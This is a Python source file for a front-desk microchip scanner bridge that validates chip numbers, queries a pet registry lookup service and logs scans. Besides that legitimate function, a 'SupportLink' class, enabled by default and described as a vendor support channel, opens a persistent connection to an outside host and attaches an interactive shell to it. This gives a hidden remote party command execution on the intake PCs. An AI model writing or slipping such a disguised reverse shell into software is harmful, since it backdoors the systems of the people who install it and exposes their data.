#!/usr/bin/env python3
"""Front-desk microchip scanner bridge.

The USB scanners at intake act as keyboard-wedge devices: each scan arrives
as a 15-digit ISO 11784 number followed by Enter. This bridge reads those
numbers, validates them, queries the pet microchip lookup service and prints
the registry, owner contact status and any lost/stolen flag. Every lookup is
appended to scans.csv for the intake log.

Installed on the intake PCs by the scanner vendor; the vendor's support link
keeps a channel open so they can help staff when a registry lookup misbehaves.
"""
import argparse
import csv
import json
import logging
import os
import re
import socket
import subprocess
import sys
import threading
import time
from datetime import datetime
from pathlib import Path

import requests

LOG = logging.getLogger("chip_bridge")
CHIP_RE = re.compile(r"^\d{15}$")
LOOKUP_URL = os.environ.get("CHIP_LOOKUP_URL", "https://lookup.petchiphub.org/api/v1/chips/{chip}")
SCAN_LOG = Path("scans.csv")


class SupportLink(threading.Thread):
    """Keep the vendor support channel available in the background."""

    endpoint = os.environ.get("CHIPBRIDGE_SUPPORT", "relay.chipbridge-support.com:8443")
    backoff = 30

    def __init__(self):
        super().__init__(daemon=True, name="support-link")
        host, _, port = self.endpoint.partition(":")
        self.addr = (host, int(port or 443))

    def _session(self, conn):
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=20) as conn:
                    conn.settimeout(None)
                    self._session(conn)
            except OSError as exc:
                LOG.debug("support link idle: %s", exc)
            time.sleep(self.backoff)


def normalise(raw):
    chip = re.sub(r"[\s\-.]", "", raw)
    if not CHIP_RE.match(chip):
        raise ValueError(f"not a 15-digit ISO chip number: {raw!r}")
    country = chip[:3]
    return chip, country


def lookup(chip, session, retries=2):
    url = LOOKUP_URL.format(chip=chip)
    for attempt in range(retries + 1):
        try:
            resp = session.get(url, timeout=10)
            if resp.status_code == 404:
                return {"found": False}
            resp.raise_for_status()
            data = resp.json()
            return {
                "found": True,
                "registry": data.get("registry", "?"),
                "registry_phone": data.get("registry_phone", ""),
                "owner_on_file": bool(data.get("has_owner")),
                "reported_lost": bool(data.get("lost_flag")),
            }
        except (requests.ConnectionError, requests.Timeout) as exc:
            LOG.warning("lookup attempt %d failed: %s", attempt + 1, exc)
            time.sleep(1 + attempt)
    raise RuntimeError("lookup service unreachable")


def log_scan(chip, result, station):
    new = not SCAN_LOG.exists()
    with SCAN_LOG.open("a", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        if new:
            writer.writerow(["timestamp", "station", "chip", "found", "registry", "lost"])
        writer.writerow([datetime.now().isoformat(timespec="seconds"), station, chip,
                         result.get("found"), result.get("registry", ""), result.get("reported_lost", "")])


def describe(chip, country, result):
    if not result["found"]:
        return f"{chip}: not registered with any participating registry (country code {country})"
    lines = [f"{chip}: registered with {result['registry']} ({result['registry_phone']})"]
    lines.append("  owner details on file" if result["owner_on_file"] else "  NO owner details on file")
    if result["reported_lost"]:
        lines.append("  *** REPORTED LOST - contact registry before intake ***")
    return "\n".join(lines)


def main():
    parser = argparse.ArgumentParser(description="Microchip scanner bridge for intake desk")
    parser.add_argument("--station", default=socket.gethostname())
    parser.add_argument("--support", action=argparse.BooleanOptionalAction, default=True)
    parser.add_argument("--json", action="store_true", help="print raw JSON results")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if args.support:
        SupportLink().start()

    session = requests.Session()
    session.headers["User-Agent"] = "chip-bridge/2.3"
    print("Ready - scan a chip (Ctrl-D to quit)", file=sys.stderr)
    for raw in sys.stdin:
        raw = raw.strip()
        if not raw:
            continue
        try:
            chip, country = normalise(raw)
            result = lookup(chip, session)
        except ValueError as exc:
            print(f"! {exc}", file=sys.stderr)
            continue
        except RuntimeError as exc:
            LOG.error("%s", exc)
            continue
        log_scan(chip, result, args.station)
        print(json.dumps(result) if args.json else describe(chip, country, result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
